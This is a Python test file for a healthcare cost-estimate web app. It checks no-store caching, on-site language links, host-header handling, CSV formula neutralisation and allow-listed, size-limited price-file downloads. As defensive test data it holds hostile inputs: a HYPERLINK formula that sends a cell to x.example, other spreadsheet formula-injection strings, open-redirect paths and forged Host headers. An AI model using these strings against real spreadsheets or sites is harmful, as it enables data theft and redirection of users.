"""Personal data and links (issue 13, item 9): no-store on what a person typed, self-links
from the route, absolute URLs from the configured host, CSV cells neutralised for every
separator, and price-file location URLs only from allowed hosts, bounded in size."""

from __future__ import annotations

import csv
import http.server
import io
import json
import re
import threading
from pathlib import Path
from urllib.parse import urlencode

import pytest

from navigator.core.spreadsheet import safe_cell
from tests.benefits.x12.build import x12
from tests.navigator.test_batch_views import appt, csv_bytes, post
from tests.navigator.test_estimate_views import EXAMPLE
from tests.navigator.test_gfe_views import FORM

TIC = Path(__file__).resolve().parents[1] / "benefits" / "tic" / "fixtures"
ACTIVE = x12("EB*1**30*PR*CHOICE PPO", "EB*C*IND*30*PR**23*500", "EB*A*IND*MH*PR****.2")


# --- Cache-Control: no-store -------------------------------------------------------------

def test_a_271_result_is_never_stored(client):
    response = client.post("/benefits/271", data={"x12": ACTIVE},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"


def test_a_good_faith_estimate_pdf_is_never_stored(client):
    response = client.post("/good-faith-estimate/estimate.pdf", data=FORM)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Cache-Control"] == "no-store"


def test_an_estimate_result_with_its_answers_in_the_address_is_never_stored(client):
    response = client.get("/estimate/result?" + urlencode(EXAMPLE))
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"


def test_plain_pages_and_static_files_keep_normal_caching(client):
    assert "no-store" not in client.get("/glossary").headers.get("Cache-Control", "")
    static = client.get("/static/css/site.css")
    assert "no-store" not in static.headers.get("Cache-Control", "")
    static.close()


# --- Self-links from the route -----------------------------------------------------------

def language_links(html: str) -> list[str]:
    switch = html.split('class="lang-switch"')[1].split("</nav>")[0]
    return re.findall(r'href="([^"]*)"', switch)


@pytest.mark.parametrize("path", ["/%5Cevil.example/", "/%5C%5Cevil.example/x",
                                  "/%5C/evil.example", "/%2F%2Fevil.example/"])
def test_the_404_language_link_stays_on_this_site(client, path):
    response = client.get(path)
    assert response.status_code == 404
    links = language_links(response.text)
    assert links
    for link in links:
        assert link.startswith("/") and not link.startswith(("//", "/\\")), link
        assert "evil" not in link


def test_the_language_link_keeps_the_route_and_its_query(client):
    html = client.get("/glossary/deductible?q=copay").text
    assert language_links(html) == ["/glossary/deductible?q=copay&amp;lang=es"]


# --- Absolute URLs from the configured host ----------------------------------------------

def test_glossary_urls_use_the_public_url_not_the_host_header(make_app):
    app = make_app(PUBLIC_URL="https://navigator.example.org/")
    client = app.test_client()
    body = client.get("/api/v1/glossary/deductible").json
    assert body["url"] == "https://navigator.example.org/glossary/deductible"
    forged = client.get("/api/v1/glossary", headers={"X-Forwarded-Host": "evil.example"})
    assert all(t["url"].startswith("https://navigator.example.org/glossary/")
               for t in forged.json["terms"])


def test_a_request_for_another_host_is_refused(make_app):
    app = make_app(PUBLIC_URL="https://navigator.example.org")
    client = app.test_client()
    refused = client.get("/api/v1/glossary/deductible", headers={"Host": "evil.example"})
    assert refused.status_code == 400
    assert "evil.example" not in refused.text
    ok = client.get("/api/v1/glossary/deductible", headers={"Host": "navigator.example.org"})
    assert ok.status_code == 200


def test_without_a_public_url_the_link_is_relative_not_the_host_header(client):
    body = client.get("/api/v1/glossary/deductible", headers={"Host": "evil.example"}).json
    assert body["url"] == "/glossary/deductible"


@pytest.mark.parametrize("bad", ["ftp://x.org", "https://x.org/path", "navigator.org"])
def test_a_public_url_that_is_not_an_origin_stops_the_start(make_app, bad):
    from navigator.core.settings import ConfigError

    with pytest.raises(ConfigError, match="PUBLIC_URL"):
        make_app(PUBLIC_URL=bad)


# --- CSV cells ---------------------------------------------------------------------------

DANGEROUS = ["AB;=1+1", '=HYPERLINK("http://x.example/?d="&A1)', "@SUM(1)", "+1", "\t=1",
             "AB,-2", "x\t@y", "\r=1", "-1+1"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_a_spreadsheet_could_run_gets_an_apostrophe(cell):
    safe = safe_cell(cell)
    assert safe.startswith("'") and safe.replace("'", "") == cell
    for separator in (",", ";", "\t", "\r", "\n"):  # however a spreadsheet splits it
        assert not any(part.lstrip(" ").startswith(("=", "+", "-", "@"))
                       for part in safe.split(separator)[1:]), (safe, separator)
    assert safe_cell(safe) == safe  # neutralising twice changes nothing


def test_a_separator_before_a_formula_gets_its_own_apostrophe():
    assert safe_cell("AB;=1+1") == "'AB;'=1+1"
    assert safe_cell("=1") == "'=1"


@pytest.mark.parametrize("cell", ["Ana Ruiz", "-12.50", "12", "O'Neil", "90837 + 90785", ""])
def test_plain_text_and_plain_numbers_stay_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_the_batch_csv_neutralises_every_separator(client):
    labels = [*DANGEROUS[:5], "Ana Ruiz"]
    data = csv_bytes(*(appt(patient=label) for label in labels))
    response = post(client, data, output="csv")
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    # The reader trims the label's spaces and tabs, so "\t=1" arrives as "=1".
    expected = ["'AB;'=1+1", "'" + DANGEROUS[1], "'@SUM(1)", "'+1", "'=1", "Ana Ruiz"]
    assert [r["patient"] for r in rows] == expected
    assert re.fullmatch(r"\d+\.\d\d", rows[0]["collect_today"])  # numbers stay numbers
    # Quoted, so a spreadsheet splitting on ; or a tab still sees one cell, text.
    for separator in (";", "\t"):
        for row in csv.reader(io.StringIO(response.text), delimiter=separator):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in row), row


# --- Price-file location URLs ------------------------------------------------------------

class Handler(http.server.BaseHTTPRequestHandler):
    """/small.json: one provider group. /big.json: an answer far past the limit, counted."""

    sent = 0

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        if self.path == "/small.json":
            body = (TIC / "remote_group.json").read_bytes()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        self.send_response(200)  # no Content-Length: only counting can stop it
        self.end_headers()
        chunk = b" " * 65536
        try:
            self.wfile.write(b'{"provider_groups": [')
            for _ in range(1024):  # 64 MB
                self.wfile.write(chunk)
                type(self).sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def log_message(self, *args: object) -> None:
        """Tests read the command's output: no access log in it."""


@pytest.fixture
def server():
    Handler.sent = 0
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def price_file(tmp_path: Path, location: str) -> str:
    body = json.loads((TIC / "v2_refs_last.json").read_text())
    body["provider_references"][1]["location"] = location
    path = tmp_path / "in-network.json"
    path.write_text(json.dumps(body))
    return str(path)


def load(make_app, tmp_path, location: str, **config: object):
    app = make_app(**config)
    return app.test_cli_runner().invoke(args=["ingest-tic", price_file(tmp_path, location),
                                              "--codes", "all"])


LOCAL = {"TIC_REFERENCE_SCHEMES": ["http"], "TIC_REFERENCE_HOSTS": ["127.0.0.1"]}


def test_an_http_location_is_refused_by_default(make_app, tmp_path, server):
    result = load(make_app, tmp_path, f"{server}/small.json?Signature=s3cr3t",
                  TIC_REFERENCE_HOSTS=["127.0.0.1"])
    assert result.exit_code != 0
    assert "not https" in result.output and "NAVIGATOR_TIC_REFERENCE_SCHEMES" in result.output
    assert "s3cr3t" not in result.output


def test_a_location_on_a_host_not_allowed_is_refused(make_app, tmp_path, server):
    result = load(make_app, tmp_path, f"{server}/small.json",
                  TIC_REFERENCE_SCHEMES=["http"], TIC_REFERENCE_HOSTS=["mrf.example.com"])
    assert result.exit_code != 0
    assert "host that is not allowed" in result.output
    assert "NAVIGATOR_TIC_REFERENCE_HOSTS" in result.output


def test_an_allowed_location_is_read(make_app, tmp_path, server):
    result = load(make_app, tmp_path, f"{server}/small.json", **LOCAL)
    assert result.exit_code == 0, result.output


def test_an_allowed_location_past_the_limit_stops_at_the_limit(make_app, tmp_path, server):
    limit = 256 * 1024
    result = load(make_app, tmp_path, f"{server}/big.json", TIC_REFERENCE_MAX_BYTES=limit,
                  **LOCAL)
    assert result.exit_code != 0
    assert "larger than 262,144 bytes" in result.output
    assert "NAVIGATOR_TIC_REFERENCE_MAX_BYTES" in result.output
    # Streamed: the server could hand over only what fits in the socket buffers past the
    # limit before the connection was closed, far from its 64 MB.
    assert Handler.sent < 32 * 1024 * 1024


def test_trusted_hosts_may_be_a_comma_separated_string(make_app):
    app = make_app(TRUSTED_HOSTS="navigator.example.org, .clinic.example")
    client = app.test_client()
    assert client.get("/glossary", headers={"Host": "a.clinic.example"}).status_code == 200
    assert client.get("/glossary", headers={"Host": "evil.example"}).status_code == 400
